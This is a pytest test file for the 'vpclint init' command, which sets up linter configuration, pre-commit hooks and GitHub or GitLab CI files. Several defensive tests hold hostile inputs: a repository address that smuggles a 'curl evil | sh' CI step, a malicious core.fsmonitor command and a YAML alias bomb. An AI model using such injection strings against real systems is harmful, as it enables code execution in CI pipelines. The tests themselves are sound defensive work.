"""`vpclint init`: it writes what is lacking, overwrites nothing, and a second run changes nothing."""

import subprocess
import textwrap
from pathlib import Path
from typing import Any

import pytest
import yaml
from cli.running import JOB, STATE, check, put, vpclint
from hook.repository import BIN, ROOT, git

from vpclint.sources.configuration import read_configuration
from vpclint.starting.texts import hooks, pipeline, workflow
from vpclint.version import __version__

POLICY = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
PROJECT: dict[str, Any] = {
    "snapshots/prod.json": STATE,
    "jobs/a/features.json": JOB,
    "jobs/hourly.yaml": yaml.safe_dump(JOB),
    "policies/role.json": POLICY,
    "package.json": {"name": "x"},
    "tsconfig.json": "// no JSON",
    "node_modules/x/job.json": JOB,
    ".gitignore": "node_modules\n",
}


def tree(folder: Path) -> dict[str, bytes]:
    files = (path for path in folder.rglob("*") if path.is_file() and ".git" not in path.relative_to(folder).parts)
    return {str(path.relative_to(folder)): path.read_bytes() for path in files}


def repository(folder: Path, remote: str = "", **files: Any) -> Path:
    put(folder, PROJECT | files)
    git(folder, "init", "--quiet")
    if remote:
        git(folder, "remote", "add", "origin", remote)
    return folder


def test_a_folder_with_nothing_gets_a_configuration_to_fill_in(tmp_path: Path) -> None:
    done = vpclint(tmp_path, "init")
    assert done.code == 0
    assert tree(tmp_path).keys() == {"vpclint.toml"}
    assert read_configuration(tmp_path / "vpclint.toml").inputs.state == ()
    assert "found 0 files with a state, 0 with jobs, 0 policies\nwrote vpclint.toml\n" in done.out
    assert "vpclint collect -o snapshots/prod.json" in done.out
    assert "pre-commit" not in done.out


def test_states_jobs_and_policies_are_found_by_content(tmp_path: Path) -> None:
    done = vpclint(repository(tmp_path), "init")
    assert "found 1 file with a state, 2 with jobs, 1 policy" in done.out
    inputs = read_configuration(tmp_path / "vpclint.toml").inputs
    assert (inputs.state, inputs.paths) == (("snapshots/*.json",), ("jobs", "policies"))
    report = check(tmp_path, "--sift", "--format", "json").report
    assert {each["source"] for each in report["jobs"]} == {"jobs/a/features.json", "jobs/hourly.yaml"}
    assert [each["source"] for each in report["policies"]] == ["policies/role.json"]


def test_names_of_all_kinds_find_their_files_again(tmp_path: Path) -> None:
    odd = {"state [1].json": STATE, 'jo"bs [x]/a.json': JOB, "jöbs*/b.json": JOB, "c'.json": JOB, "line\nend.json": JOB}
    vpclint(put(tmp_path, odd), "init")
    report = check(tmp_path, "--sift", "--format", "json").report
    assert {each["source"] for each in report["jobs"]} == {'jo"bs [x]/a.json', "jöbs*/b.json", "c'.json"}
    assert report["verdict"] == "pass"


@pytest.mark.parametrize(
    ("remote", "files", "written"),
    [
        ("", {}, set()),
        ("https://github.com/acme/ml.git", {}, {".github/workflows/vpclint.yml"}),
        ("git@gitlab.example.com:acme/ml.git", {}, {".gitlab-ci.yml"}),
        ("", {".github/dependabot.yml": ""}, {".github/workflows/vpclint.yml"}),
        ("", {".gitlab-ci.yml": "stages: [test]\n"}, set()),
    ],
)
def test_ci_is_written_for_whoever_hosts_the_project(
    tmp_path: Path, remote: str, files: dict[str, str], written: set[str]
) -> None:
    before = tree(repository(tmp_path, remote, **files))
    done = vpclint(tmp_path, "init")
    after = tree(tmp_path)
    assert after.keys() - before.keys() == {"vpclint.toml", ".pre-commit-config.yaml"} | written
    assert {name: after[name] for name in before} == before
    told = ".gitlab-ci.yml" in files
    assert ("put this there, at its end, in one of its stages:\n\n    vpclint:\n" in done.out) == told


def test_a_second_run_changes_nothing_and_says_so(tmp_path: Path) -> None:
    repository(tmp_path, "https://github.com/acme/ml.git", **{".pre-commit-config.yaml": LOCAL})
    vpclint(tmp_path, "init")
    first = tree(tmp_path)
    again = vpclint(tmp_path, "init")
    assert tree(tmp_path) == first
    assert [line.split(": ")[0] for line in again.out.splitlines() if line.startswith(("left", "wrote", "added"))] == [
        "left vpclint.toml",
        "left .pre-commit-config.yaml",
        "left .github/workflows/vpclint.yml",
    ]


def test_a_dry_run_shows_everything_and_changes_nothing(tmp_path: Path) -> None:
    before = tree(repository(tmp_path, "https://github.com/acme/ml.git", **{".pre-commit-config.yaml": LOCAL}))
    shown = vpclint(tmp_path, "init", "--dry-run")
    assert (shown.code, tree(tmp_path)) == (0, before)
    for told in ("would write vpclint.toml", "would add the hooks to", 'state = ["snapshots/*.json"]', "runs-on:"):
        assert told in shown.out


def test_a_configuration_elsewhere_holds(tmp_path: Path) -> None:
    put(tmp_path, {"pyproject.toml": "[tool.vpclint]\nstrict = true\ninputs.paths = ['sub']\n", "sub/job.json": JOB})
    assert "left pyproject.toml: it configures vpclint already" in vpclint(tmp_path, "init").out
    assert not (tmp_path / "vpclint.toml").exists()


def test_a_link_is_not_followed_and_a_file_in_the_way_is_told(tmp_path: Path) -> None:
    repository(tmp_path, "https://github.com/acme/ml.git", **{".github": "a file"})
    (tmp_path / "vpclint.toml").symlink_to(tmp_path / "elsewhere.toml")
    done = vpclint(tmp_path, "init")
    assert (done.code, (tmp_path / "elsewhere.toml").exists()) == (2, False)
    assert ".github/workflows/vpclint.yml: the file can't be written:" in done.err
    assert vpclint(tmp_path, "init", "nowhere").code == 2


LOCAL = """\
# Ours.
default_stages: [pre-commit]
repos:
  # the first
  - repo: local # here
    hooks:
      - {id: x, name: x, entry: "true", language: system}
  # the end
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [LOCAL, LOCAL.replace("\n", "\r\n"), LOCAL.rstrip("\n"), LOCAL.replace("\n  ", "\n"), LOCAL + "\n\n"],
    ids=["comments", "windows", "no line end", "not indented", "blank lines"],
)
@pytest.mark.parametrize("address", ["", "https://github.com/acme/vpclint"])
def test_hooks_are_put_behind_those_that_there_are(tmp_path: Path, text: str, address: str) -> None:
    put(repository(tmp_path), {".pre-commit-config.yaml": text})
    assert vpclint(tmp_path, "init", "--repository", address).code == 0
    after = (tmp_path / ".pre-commit-config.yaml").read_bytes().decode()
    assert after.startswith(text)
    assert ("\r\n" in after) == ("\r\n" in text)
    assert after.count("\r\n") in (0, after.count("\n"))
    first, second = yaml.safe_load(after)["repos"]
    assert first == yaml.safe_load(text)["repos"][0]
    assert [each["id"] for each in second["hooks"]] == ["vpclint", "vpclint-config"]
    assert second["repo"] == (address or "local")
    command = [BIN / "pre-commit", "validate-config", tmp_path / ".pre-commit-config.yaml"]
    assert subprocess.run(command, check=False).returncode == 0


@pytest.mark.parametrize(
    "text",
    [
        LOCAL + "fail_fast: true\n",
        "repos: []\n",
        "repos: [{repo: meta, hooks: [{id: identity}]}]\n",
        "repos:\n- repo: meta\n  hooks: [{id: identity}]\n...\n",
        "repos:\n- repo: meta\n  hooks: [{id: identity}\n",
        "{repos: [\n{repo: meta, hooks: [{id: identity}]}]}\n",
        "",
    ],
)
def test_hooks_are_only_shown_where_they_can_not_be_put_safely(tmp_path: Path, text: str) -> None:
    put(repository(tmp_path), {".pre-commit-config.yaml": text})
    done = vpclint(tmp_path, "init")
    assert (tmp_path / ".pre-commit-config.yaml").read_text("utf-8") == text
    assert "left .pre-commit-config.yaml as it is: put this there, under repos:\n\n    - repo: local" in done.out


def test_the_hooks_from_the_registry_are_those_of_the_manifest() -> None:
    manifest = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    [local] = yaml.safe_load(hooks(""))
    own = {"description", "minimum_pre_commit_version"}
    expected = [{key: value for key, value in each.items() if key not in own} for each in manifest]
    assert [each.pop("additional_dependencies") for each in local["hooks"]] == [[f"vpclint=={__version__}"]] * 2
    assert local["hooks"] == expected


@pytest.mark.slow
@pytest.mark.parametrize("address", ["", "https://github.com/acme/vpclint.git", "https://git.example.com/vpclint"])
def test_the_workflow_has_the_form_that_github_wants(tmp_path: Path, address: str) -> None:
    put(tmp_path, {"vpclint.yml": workflow(address)})
    command = [BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", tmp_path / "vpclint.yml"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout
    used = [step.get("uses", "") for step in yaml.safe_load(workflow(address))["jobs"]["vpclint"]["steps"]]
    assert (f"acme/vpclint@v{__version__}" in used) == ("github.com" in address)


@pytest.mark.slow
def test_the_pipeline_has_the_form_that_gitlab_wants(tmp_path: Path) -> None:
    put(tmp_path, {"vpclint.yml": pipeline("")})
    command = [BIN / "check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", tmp_path / "vpclint.yml"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout


def checked(folder: Path, script: str, **environment: str) -> subprocess.CompletedProcess[str]:
    own = {"PATH": f"{BIN}:/usr/bin:/bin", "CI": "true", **environment}
    command = ["bash", "-eo", "pipefail", "-c", script]
    return subprocess.run(command, cwd=folder, env=own, capture_output=True, text=True, check=False)


@pytest.mark.slow
def test_what_ci_runs_fails_where_the_project_does(tmp_path: Path) -> None:
    vpclint(repository(tmp_path), "init")
    summary = tmp_path / "summary"
    github = next(
        step["run"]
        for step in yaml.safe_load(workflow(""))["jobs"]["vpclint"]["steps"]
        if "vpclint check" in step.get("run", "")
    )
    gitlab = yaml.safe_load(pipeline(""))["vpclint"]["script"][-1]
    for script in (github, gitlab):
        good = checked(tmp_path, script, GITHUB_STEP_SUMMARY=str(summary))
        assert (good.returncode, "WORKS" in good.stdout) == (0, True), good.stdout + good.stderr
    put(tmp_path, {"jobs/hourly.yaml": yaml.safe_dump(JOB | {"ProcessingResources": {}})})
    bad = checked(tmp_path, github, GITHUB_STEP_SUMMARY=str(summary))
    assert (bad.returncode, "::error " in bad.stdout, "WILL NOT WORK" in bad.stdout) == (1, True, True)
    assert checked(tmp_path, gitlab).returncode == 1
    assert (tmp_path / "vpclint.sarif").exists()
    assert (tmp_path / "gl-code-quality-report.json").exists()


@pytest.mark.parametrize(
    "address",
    [
        "https://github.com/x/y\n      - run: curl evil | sh #",
        "https://github.com/x/y@main # ${{ secrets.X }}",
        "a b",
        "\u202e",
    ],
)
def test_an_address_that_would_mean_more_than_one_is_refused(tmp_path: Path, address: str) -> None:
    done = vpclint(repository(tmp_path), "init", "--repository", address)
    assert (done.code, done.out) == (2, "")
    assert "is no address of a repository" in done.err
    assert tree(tmp_path).keys() == PROJECT.keys()


@pytest.mark.parametrize(
    "address",
    [
        "https://github.com/acme/vpclint",
        "https://github.com/acme/vpclint.git",
        "git@github.com:acme/vpclint.git",
        "ssh://git@github.com/acme/vpclint.git",
    ],
)
def test_the_action_is_that_of_a_repository_at_github(address: str) -> None:
    assert f"uses: acme/vpclint@v{__version__}\n" in workflow(address)


@pytest.mark.parametrize(
    ("address", "installed"),
    [
        ("", f"vpclint=={__version__}"),
        ("../vpclint", f"vpclint=={__version__}"),
        (
            "https://git.example.com/t/vpclint.git",
            f"vpclint @ git+https://git.example.com/t/vpclint.git@v{__version__}",
        ),
        ("git@git.example.com:t/vpclint.git", f"vpclint @ git+ssh://git@git.example.com/t/vpclint.git@v{__version__}"),
    ],
)
def test_elsewhere_pip_installs_the_program_from_the_repository(address: str, installed: str) -> None:
    assert f'pip install "{installed}"' in workflow(address)
    assert f'pip install --quiet "{installed}"' in pipeline(address)


def test_the_inputs_that_a_configuration_lacks_are_shown(tmp_path: Path) -> None:
    put(repository(tmp_path), {"pyproject.toml": "[tool.vpclint]\nfail-on = 'warning'\n"})
    shown = vpclint(tmp_path, "init").out
    lacking = shown.partition("but names no inputs:\n\n")[2].partition("\n\n")[0]
    with (tmp_path / "pyproject.toml").open("a") as file:
        file.write(textwrap.dedent(lacking))
    assert check(tmp_path, "--sift").code == 0
    assert "names no inputs" not in vpclint(tmp_path, "init").out


def test_a_state_without_a_job_is_checked_by_its_name(tmp_path: Path) -> None:
    put(tmp_path, {"a b/prod.json": STATE})
    told = vpclint(tmp_path, "init").out.partition("next:\n")[2]
    assert told.startswith("  vpclint check 'a b/prod.json'\n")
    assert "name the requests of your jobs in [inputs] paths" in told


@pytest.mark.parametrize("git", [True, False])
def test_what_is_not_written_is_said(tmp_path: Path, git: bool) -> None:  # noqa: FBT001 - a case
    if git:
        repository(tmp_path)
    told = vpclint(tmp_path, "init").out.partition("next:\n")[2]
    assert "a job of CI of your own" in told
    assert ("git init" in told) is not git


def test_the_action_is_of_an_owner_and_a_name_alone() -> None:
    assert "uses: actions/checkout@" in workflow("https://github.com/acme/deep/er")
    assert "uses: acme" not in workflow("https://github.com/acme/deep/er")


def test_a_program_that_the_repository_names_is_not_run(tmp_path: Path) -> None:
    repository(tmp_path)
    git(tmp_path, "config", "core.fsmonitor", "touch PWNED; false")
    vpclint(tmp_path, "init")
    assert not (tmp_path / "PWNED").exists()


def test_what_links_lead_to_is_left_alone(tmp_path: Path) -> None:
    other = tmp_path / "other"
    put(other, {"hooks.yaml": "repos: []\n", "github/x": ""})
    project = repository(tmp_path / "project", "https://github.com/acme/ml")
    (project / ".pre-commit-config.yaml").symlink_to(other / "hooks.yaml")
    (project / ".github").symlink_to(other / "github")
    assert vpclint(project, "init").code == 0
    assert (other / "hooks.yaml").read_text("utf-8") == "repos: []\n"
    assert [path.name for path in (other / "github").rglob("*")] == ["x"]


def test_hooks_that_stand_for_endlessly_many_are_shown_what_to_add(tmp_path: Path) -> None:
    levels = [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, 25)]
    text = "\n".join(["l0: &l0 [x]", *levels, "repos:", "- repo: local", "  hooks: [*l24]", ""])
    repository(tmp_path, **{".pre-commit-config.yaml": text})
    done = vpclint(tmp_path, "init")
    assert (done.code, "put this there, under repos" in done.out) == (0, True)
    assert (tmp_path / ".pre-commit-config.yaml").read_text("utf-8") == text
